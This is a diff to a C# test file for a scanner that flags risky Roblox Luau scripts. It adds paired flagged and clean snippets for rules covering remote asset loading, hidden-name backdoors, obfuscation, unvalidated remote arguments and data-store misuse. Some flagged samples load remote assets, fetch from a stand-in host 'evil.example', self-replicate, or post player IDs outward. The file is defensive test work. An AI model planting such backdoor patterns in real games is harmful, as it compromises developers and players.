@@ -12,6 +12,9 @@ public sealed class ScannerTests
         { "remote-code-require-asset", "require(123456789)", "require(script.Parent.Util)" },
         { "remote-code-require-asset", "local id = tonumber('12' .. '34567') require(id)", "require(game.ReplicatedStorage.Util)" },
         { "remote-code-insert-asset", "game:GetService('InsertService'):LoadAsset(1)", "script.Door:Clone().Parent = workspace" },
+        { "remote-code-insert-asset", "local get = game.GetObjects for _, o in get(game, 'rbxassetid://' .. id) do o.Parent = workspace end", "for _, o in game.Workspace:GetChildren() do o.Parent = script.Bin end" },
+        { "remote-code-insert-asset", "local M = {} function M.build(world) return world:GetObjects('rbxassetid://1818') end return M", "local M = {} function M.clear(grid, cell) for _, o in grid:GetObjects(cell) do o:Destroy() end end return M" },
+        { "backdoor-hidden-name", "game['Get' .. 'Objects'](game, 'rbxassetid://1818')", "game:GetObjects('rbxassetid://1818')" },
         { "remote-code-foreign-host", "game:GetService('HttpService'):GetAsync('https://evil.example/x')", "game:GetService('HttpService'):GetAsync('https://api.school.example/x')" },
         { "remote-code-unknown-host", "game:GetService('HttpService'):GetAsync(url)", "game:GetService('HttpService'):GetAsync('https://api.school.example/' .. page)" },
         { "backdoor-hidden-remote", "local r = Instance.new('RemoteEvent') r.Parent = game:GetService('JointsService')", "local r = Instance.new('RemoteEvent') r.Parent = game:GetService('ReplicatedStorage')" },
@@ -23,14 +26,24 @@ public sealed class ScannerTests
         { "backdoor-homoglyph", "local s = 'аdmin'", "local s = 'admin'" },
         { "backdoor-self-replication", "for _, p in workspace:GetDescendants() do script:Clone().Parent = p end", "local d = script.Door:Clone()" },
         { "backdoor-hidden-name", "getfenv()['load' .. 'string']('x')", "print('x')" },
+        { "backdoor-obfuscated", "local lIl, IlI = '\\104\\101\\108\\108\\111', 0x1F local function IIl(lII) local III = '' for Ill = 1, #lII do III = III .. string.char(bit32.bxor(string.byte(lII, Ill), IlI)) end return III end print(IIl(lIl))", "local greeting, key = 'hello', 31 local function scramble(text) local out = '' for i = 1, #text do out = out .. string.char(bit32.bxor(string.byte(text, i), key)) end return out end print(scramble(greeting))" },
+        { "backdoor-obfuscated", "local v = {72, 101, 108, 108, 111, 33} local s = '' for i = 1, #v do s = s .. string.char(bit32.bxor(v[i], 7 * 3 - 21)) end print(s)", "local scores = {72, 101, 108, 108, 111, 33} local best = 0 for i = 1, #scores do best = math.max(best, scores[i]) end print(best)" },
+        { "backdoor-obfuscated", "local s, n = 1, nil while s do if s == 1 then n = 4 s = 7 elseif s == 7 then n = n * 2 s = 3 elseif s == 3 then print(n) s = 9 elseif s == 9 then s = 5 elseif s == 5 then s = nil end end local q0x, z9k = 3 * 7 + 2, 'eA' .. 'x1' .. 'Zq' print(q0x, z9k)", "local state = 'idle' if state == 'idle' then walk() elseif state == 'walk' then run() elseif state == 'run' then rest() end" },
         { "backdoor-environment", "setfenv(1, {})", "local t = {}" },
         { "remote-unvalidated-argument", "remote.OnServerEvent:Connect(function(p, n) p.leaderstats.Coins.Value = n end)", "remote.OnServerEvent:Connect(function(p, n) if typeof(n) ~= 'number' or n > 10 then return end p.leaderstats.Coins.Value = n end)" },
+        { "remote-unvalidated-argument", "remote.OnServerInvoke = function(p, n) p.leaderstats.Coins.Value = n return true end", "remote.OnServerInvoke = function(p, n) if typeof(n) ~= 'number' or n > 10 then return false end p.leaderstats.Coins.Value = n return true end" },
+        { "remote-unvalidated-argument", "function remote.OnServerInvoke(p, n) p.leaderstats.Coins.Value -= n end", "function remote.OnServerInvoke(p, name) return {name = name, at = os.time()} end" },
+        { "remote-unvalidated-argument", "local calls = {buy = function(p, n) p.leaderstats.Coins.Value -= n end} for name, call in calls do script[name].OnServerInvoke = call end", "local prices = {Sword = 10} local function buy(p, name) local price = prices[name] if not price then return end p.leaderstats.Coins.Value -= price end remote.OnServerInvoke = buy" },
+        { "remote-unvalidated-argument", "remote['OnServer' .. 'Invoke'] = function(p, n) p.leaderstats.Coins.Value = n end", "remote.OnClientInvoke = function(n) label.Text = n end" },
         { "remote-unvalidated-argument", "remote.OnServerEvent:Connect(function(p, ...) local a = {...} p.leaderstats.Coins.Value = a[1] end)", "remote.OnServerEvent:Connect(function(p, ...) local a = {...} if not isAmount(a[1]) then return end p.leaderstats.Coins.Value = a[1] end)" },
         { "data-store-unprotected", "local s = game:GetService('DataStoreService'):GetDataStore('x') s:GetAsync('k')", "local s = game:GetService('DataStoreService'):GetDataStore('x') local ok = pcall(function() return s:GetAsync('k') end)" },
         { "remote-unvalidated-argument", "remote.OnServerEvent:Connect(function(p, ...) if isOdd(...) then return end local n = ... p.leaderstats.Coins.Value = n end)", "remote.OnServerEvent:Connect(function(p, ...) if not isRequest(...) then return end local n = ... p.leaderstats.Coins.Value = n end)" },
         { "remote-unvalidated-argument", "remote.OnServerEvent:Connect(function(p, prices, k) local price = prices and prices[k] if not price then return end p.leaderstats.Coins.Value = price end)", "local trades = {} remote.OnServerEvent:Connect(function(p, k) local mine = trades[p] local trade = mine and mine[k] if not trade then return end p.leaderstats.Coins.Value = trade end)" },
         { "remote-unvalidated-argument", "remote.OnServerEvent:Connect(function(p, v) if typeof(v) ~= 'Vector3' then return end local far = (v - p.Character.Head.Position).Magnitude print(far) workspace.Mark.Position = v end)", "remote.OnServerEvent:Connect(function(p, v) if typeof(v) ~= 'Vector3' then return end local far = (v - p.Character.Head.Position).Magnitude if far > 20 then return end workspace.Mark.Position = v end)" },
         { "remote-unvalidated-argument", "remote.OnServerEvent:Connect(function(p, req) local n = req.n if known(p) then p.leaderstats.Coins.Value = n end end)", "remote.OnServerEvent:Connect(function(p, req) local n = req.n if isRequest(req) then p.leaderstats.Coins.Value = n end end)" },
+        { "data-store-in-loop", "local s = game:GetService('DataStoreService'):GetDataStore('x') for _, p in game.Players:GetPlayers() do pcall(s.SetAsync, s, p.UserId, 1) end", "local s = game:GetService('DataStoreService'):GetDataStore('x') for _, p in game.Players:GetPlayers() do pcall(s.SetAsync, s, p.UserId, 1) task.wait(1) end" },
+        { "data-store-in-loop", "local s = game:GetService('DataStoreService'):GetDataStore('x') local function save(p) pcall(s.SetAsync, s, p.UserId, 1) end game:BindToClose(function() for _, p in game.Players:GetPlayers() do save(p) end end)", "local s = game:GetService('DataStoreService'):GetDataStore('x') game.Players.PlayerRemoving:Connect(function(p) pcall(s.SetAsync, s, p.UserId, 1) end)" },
+        { "data-store-in-loop", "local s = game:GetService('DataStoreService'):GetDataStore('x') game:GetService('RunService').Heartbeat:Connect(function() pcall(s.IncrementAsync, s, 'frames', 1) end)", "local s = game:GetService('DataStoreService'):GetDataStore('x') while task.wait(60) do pcall(s.IncrementAsync, s, 'minutes', 1) end" },
         { "data-store-lost-update", "local s = game:GetService('DataStoreService'):GetDataStore('x') pcall(function() local d = s:GetAsync('k') s:SetAsync('k', {coins = d.coins}) end)", "local s = game:GetService('DataStoreService'):GetDataStore('x') pcall(function() if s:GetAsync('k') then s:SetAsync('k', {coins = 0}) end end)" },
         { "data-store-lost-update", "local s = game:GetService('DataStoreService'):GetDataStore('x') pcall(function() local v = s:GetAsync('k') s:SetAsync('k', v + 1) end)", "local s = game:GetService('DataStoreService'):GetDataStore('x') pcall(function() s:UpdateAsync('k', function(v) return v + 1 end) end)" },
         { "privacy-player-data-leaves", "game.Players.PlayerAdded:Connect(function(p) game:GetService('HttpService'):PostAsync('https://api.school.example', p.UserId) end)", "game.Players.PlayerAdded:Connect(function(p) game:GetService('HttpService'):PostAsync('https://api.school.example', 'joined') end)" },
@@ -75,6 +88,41 @@ public sealed class ScannerTests
         var finding = Assert.Single(report.Findings, finding => finding.Rule == Rules.UnvalidatedArgument);
         Assert.True(finding.Trace.Count >= 2);
         Assert.Equal(3, report.Source.LineOf(finding.Span.Start));
+    }
+
+    [Fact]
+    public void What_a_client_asks_of_a_remote_function_is_followed_to_where_it_is_used()
+    {
+        var report = ScriptScanner.Scan(LuauSource.FromText("local function pay(p, n)\n  p.leaderstats.Coins.Value -= n\nend\nremote.OnServerInvoke = function(p, n)\n  pay(p, n)\nend"));
+
+        var finding = Assert.Single(report.Findings, finding => finding.Rule == Rules.UnvalidatedArgument);
+        Assert.Equal([4, 2], finding.Trace.Select(step => report.Source.LineOf(step.Span.Start)));
+        Assert.Contains("a client calls remote", finding.Trace[0].Message);
+    }
+
+    [Fact]
+    public void A_data_store_call_in_a_loop_is_told_at_the_call()
+    {
+        const string Script = "local s = game:GetService('DataStoreService'):GetDataStore('x')\nfor i = 1, 9 do\n  pcall(function() s:SetAsync(i, 0) end)\nend";
+
+        var report = ScriptScanner.Scan(LuauSource.FromText(Script));
+
+        var finding = Assert.Single(report.Findings, finding => finding.Rule == Rules.DataStoreInLoop);
+        Assert.Equal("s:SetAsync(i, 0)", Script[finding.Span.Start..finding.Span.End]);
+        Assert.Equal(3, report.Source.LineOf(finding.Span.Start));
+    }
+
+    [Fact]
+    public void An_obfuscated_script_is_told_once_for_all_of_it_with_its_score()
+    {
+        const string Script = "local lIl, IlI = '\\104\\101\\108\\108\\111', 0x1F local function IIl(lII) return (lII:gsub('.', function(Ill) return string.char(bit32.bxor(Ill:byte(), IlI)) end)) end print(IIl(lIl))";
+
+        var report = ScriptScanner.Scan(LuauSource.FromText(Script));
+
+        var finding = Assert.Single(report.Findings, finding => finding.Rule == Rules.Obfuscated);
+        Assert.Equal(0, finding.Span.Start);
+        Assert.InRange(report.Metrics.Obfuscation, Obfuscation.Threshold, 1);
+        Assert.InRange(ScriptScanner.Scan(LuauSource.FromText("local total = 0 for i = 1, 9 do total += i end print(total)")).Metrics.Obfuscation, 0, 0.1);
     }
 
     [Fact]
